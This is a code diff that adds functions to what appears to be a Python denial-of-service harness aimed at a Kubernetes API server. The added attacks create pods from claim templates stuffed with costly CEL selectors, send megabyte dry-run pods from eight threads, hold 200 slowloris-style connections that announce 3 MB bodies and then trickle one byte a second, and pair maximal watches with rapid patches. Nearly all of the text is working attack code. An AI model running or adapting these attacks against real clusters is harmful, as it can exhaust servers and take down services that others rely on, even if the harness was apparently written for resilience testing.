@@ -148,6 +148,95 @@ def _waiting_pods(target: Target, *, pods: int, claims: int, selectors: int) -> 
     _ENDED.wait(LONGEST)
 
 
+def _template(name: str, requests: list[dict[str, Any]], **devices: Any) -> dict[str, Any]:
+    return {
+        "apiVersion": "resource.k8s.io/v1",
+        "kind": "ResourceClaimTemplate",
+        "metadata": {"name": name},
+        "spec": {"spec": {"devices": {"requests": requests, **devices}}},
+    }
+
+
+def _costly_request(name: str, selectors: int, first: int) -> dict[str, Any]:
+    texts = [costly(number) for number in range(first, first + selectors)]
+    return {"name": name, "deviceClassName": CLASS, "selectors": [{"cel": {"expression": one}} for one in texts]}
+
+
+def _template_pods(target: Target, template: dict[str, Any]) -> None:
+    """Pods whose claims are made by the controller, one after the other, as long as the attack lasts."""
+    client = AttackerClient(target)
+    client.ask("POST", objects("resourceclaimtemplates", GROUP), template)
+    end, number = time.monotonic() + LONGEST, 0
+    while time.monotonic() < end:
+        number += 1
+        pod = pod_of(f"t-{number}", "unused")
+        pod["spec"]["resourceClaims"] = [{"name": "c0", "resourceClaimTemplateName": template["metadata"]["name"]}]
+        client.ask("POST", objects("pods"), pod)
+        time.sleep(0.05)
+
+
+def _templates_of_20(target: Target) -> None:
+    exactly = _costly_request("", 20, 0)
+    del exactly["name"]
+    _template_pods(target, _template("costly", [{"name": "r", "exactly": exactly}]))
+
+
+def _templates_of_alternatives(target: Target) -> None:
+    alternatives = [_costly_request(f"a{number}", 4, number * 4) for number in range(8)]
+    requests = [{"name": f"r{number}", "firstAvailable": alternatives} for number in range(4)]
+    match = [{"matchAttribute": "gpu.example.com/model"}]
+    _template_pods(target, _template("alternatives", requests, constraints=match))
+
+
+def _big_dry_runs(target: Target) -> None:
+    """Pods of a megabyte, valid and invalid, which are never stored."""
+    many = [{"name": f"V{number}", "value": "x" * 480} for number in range(2_000)]
+    container = {"name": "c", "image": "x", "env": many}
+
+    def send(sender: int) -> None:
+        client, end, number = AttackerClient(target), time.monotonic() + LONGEST, 0
+        while time.monotonic() < end:
+            number += 1
+            pod = pod_of(f"dry-{sender}-{number}")
+            pod["spec"]["containers"] = [container, *([container] if sender % 2 else [])]
+            client.ask("POST", f"{objects('pods')}?dryRun=All", pod)
+
+    _at_once(8, send)
+
+
+def _half_sent_bodies(target: Target) -> None:
+    """Each announces three megabytes, sends most of them, and goes on with a byte a second."""
+    place = urlsplit(target.api)
+    trusted = ssl.create_default_context(cafile=target.authority)
+
+    def send(_sender: int) -> None:
+        end = time.monotonic() + LONGEST
+        head = (
+            f"POST {objects('configmaps')} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {target.token}\r\n"
+            "Content-Type: application/json\r\nContent-Length: 3000000\r\n\r\n"
+        )
+        while time.monotonic() < end:
+            with suppress(OSError):
+                to = (place.hostname or "", place.port or 443)
+                plain = socket.create_connection(to, timeout=10, source_address=ADDRESS)
+                with trusted.wrap_socket(plain, server_hostname=place.hostname) as one:
+                    one.sendall(head.encode() + b" " * 2_900_000)
+                    ANSWERS["half sent"] += 1
+                    while time.monotonic() < end:
+                        one.sendall(b" ")
+                        time.sleep(1)
+            ANSWERS["closed"] += 1
+            time.sleep(0.2)
+
+    _at_once(200, send)
+
+
+def _watched_changes(target: Target) -> None:
+    """As many watches as one identity may have, of objects that change as fast as the server lets them."""
+    threading.Thread(target=_watches, args=(target,), daemon=True).start()
+    _patches(target)
+
+
 def _idle_connections(target: Target) -> None:
     """Opened again as they are closed."""
     place = urlsplit(target.api)
@@ -262,10 +351,15 @@ ATTACKS: dict[str, Callable[[Target], None]] = {
     "one pod of 128 costly selectors": lambda target: _waiting_pods(target, pods=1, claims=1, selectors=128),
     "pods of 4,096 costly selectors": lambda target: _waiting_pods(target, pods=2, claims=16, selectors=128),
     "100 pods of 128 costly selectors": lambda target: _waiting_pods(target, pods=100, claims=1, selectors=128),
+    "pods of templates, 20 costly selectors": _templates_of_20,
+    "pods of templates, costly alternatives": _templates_of_alternatives,
     f"{IDLE:,} idle connections": _idle_connections,
     f"{WATCHES:,} watches": _watches,
     "patches of a big ConfigMap": _patches,
     "claims of 2.3 MB": _big_claims,
+    "dry runs of pods of a megabyte": _big_dry_runs,
+    "half-sent bodies": _half_sent_bodies,
+    "watches of objects that change": _watched_changes,
     "eight workbenches": _workbench,
 }
 
